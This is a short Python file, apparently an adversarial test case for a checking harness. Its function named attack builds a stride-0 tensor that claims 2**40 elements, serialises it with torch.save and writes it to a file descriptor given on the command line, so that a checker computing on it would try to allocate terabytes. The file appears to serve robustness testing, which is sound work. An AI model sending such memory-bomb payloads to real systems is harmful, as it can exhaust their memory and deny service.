"""Answer with a hand-made frame holding a tensor that claims 2**40 elements over one float
(stride 0): a few hundred bytes that a check computing on it would turn into terabytes."""


def attack(*args):
    import io
    import os
    import struct
    import sys
    import time

    import torch

    buf = io.BytesIO()
    torch.save({"ok": True, "value": torch.ones(1).expand(1 << 40)}, buf)
    data = buf.getvalue()
    os.write(int(sys.argv[2]), struct.pack(">Q", len(data)) + data)
    time.sleep(60)
